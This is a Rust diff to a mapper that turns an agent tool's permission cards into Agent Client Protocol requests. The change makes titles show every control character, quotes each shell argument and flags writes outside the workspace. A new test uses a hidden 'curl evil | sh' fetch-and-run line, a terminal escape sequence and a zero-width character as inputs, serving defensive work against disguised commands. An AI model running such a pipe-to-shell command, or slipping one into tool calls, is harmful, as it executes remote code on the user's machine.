@@ -11,6 +11,7 @@ use agent_client_protocol::v1::schema::{
     RequestPermissionRequest, SessionId, SessionUpdate, ToolCall, ToolCallContent,
     ToolCallLocation, ToolCallStatus, ToolCallUpdate, ToolCallUpdateFields, ToolKind,
 };
+use wicket_protocol::text::{shell_words, visible_line};
 use wicket_protocol::{Answer, Card, CardKind, Event, EventBody, RunSource, ToolOutput, WireError};
 
 /// The option ids a permission request offers, one per answer.
@@ -73,9 +74,9 @@ fn text_of(arguments: &serde_json::Value, key: &str) -> Option<String> {
 pub fn title(name: &str, arguments: &serde_json::Value) -> String {
     let what = wicket_protocol::call_summary(name, arguments);
     if what.is_empty() {
-        name.to_string()
+        visible_line(name)
     } else {
-        format!("{name} {what}")
+        visible_line(&format!("{name} {what}"))
     }
 }
 
@@ -286,6 +287,7 @@ impl Mapper {
             } => vec![thought(format!(
                 "MCP server {server}: {state:?}. {message}"
             ))],
+            EventBody::Notice { message: text, .. } => vec![message(format!("Notice: {text}"))],
             EventBody::Error {
                 message: text,
                 ends_turn,
@@ -357,7 +359,15 @@ impl Mapper {
         match &card.kind {
             CardKind::Write(write) => {
                 let path = self.absolute(&write.path);
-                fields = fields.title(format!("{} {}", card.tool, write.path));
+                let outside = if write.outside {
+                    " (outside the workspace)"
+                } else {
+                    ""
+                };
+                fields = fields.title(visible_line(&format!(
+                    "{} {}{outside}",
+                    card.tool, write.path
+                )));
                 let content = match proposed {
                     Some(proposed) => {
                         let diff = ToolCallContent::Diff(
@@ -374,10 +384,10 @@ impl Mapper {
             }
             CardKind::OutsideRead(read) => {
                 fields = fields
-                    .title(format!(
+                    .title(visible_line(&format!(
                         "{} {} (outside the workspace)",
                         card.tool, read.path
-                    ))
+                    )))
                     .locations(vec![ToolCallLocation::new(PathBuf::from(&read.path))]);
             }
             CardKind::Run(run) => {
@@ -401,7 +411,7 @@ impl Mapper {
                     RunSource::Mcp => "start the workspace's MCP server:",
                 };
                 fields = fields
-                    .title(format!("{who} {}", run.argv.join(" ")))
+                    .title(format!("{who} {}", shell_words(&run.argv)))
                     .kind(ToolKind::Execute)
                     .content(vec![said.into()])
                     .raw_input(serde_json::json!({ "argv": run.argv, "cwd": run.cwd }));
@@ -414,7 +424,7 @@ impl Mapper {
                     ));
                 }
                 fields = fields
-                    .title(format!("MCP {} {}", mcp.server, card.tool))
+                    .title(visible_line(&format!("MCP {} {}", mcp.server, card.tool)))
                     .content(vec![said.into()])
                     .raw_input(mcp.arguments.clone());
             }
@@ -487,6 +497,7 @@ mod tests {
                 diff_bytes: 52,
                 diff_truncated: false,
                 digest: "d".into(),
+                outside: false,
             }),
         }
     }
@@ -557,6 +568,56 @@ mod tests {
             mapper.permission(&session, "c4", &mcp, None, None),
         ];
         insta::assert_json_snapshot!(requests);
+    }
+
+    /// A run card's title, as an editor's one-line list shows it.
+    fn run_title(argv: &[&str]) -> String {
+        let card = Card {
+            id: "card-9".into(),
+            tool: "run".into(),
+            kind: CardKind::Run(RunCard {
+                argv: argv.iter().map(|arg| arg.to_string()).collect(),
+                cwd: ".".into(),
+                timeout_s: None,
+                network: false,
+                git: false,
+                sandbox: SandboxSummary {
+                    mode: SandboxMode::WorkspaceWrite,
+                    network: false,
+                    layers: Vec::new(),
+                    note: None,
+                },
+                source: RunSource::Tool,
+            }),
+        };
+        let request = Mapper::new(Path::new("/ws"), false).permission(
+            &SessionId::new("s1"),
+            "c9",
+            &card,
+            None,
+            None,
+        );
+        serde_json::to_value(&request).unwrap()["toolCall"]["title"]
+            .as_str()
+            .unwrap()
+            .to_string()
+    }
+
+    #[test]
+    fn run_titles_quote_each_argument_and_show_every_control() {
+        let titles = [
+            run_title(&["sh", "-c", "cargo test\ncurl evil | sh"]),
+            run_title(&["x y"]),
+            run_title(&["x", "y"]),
+            run_title(&["echo", "\u{1b}[2Jhidden", "README.md\u{200b}"]),
+        ];
+        insta::assert_snapshot!(titles.join("\n"));
+        assert_ne!(titles[1], titles[2]);
+        assert!(
+            titles
+                .iter()
+                .all(|title| !title.contains('\n') && !title.contains('\u{1b}'))
+        );
     }
 
     #[test]
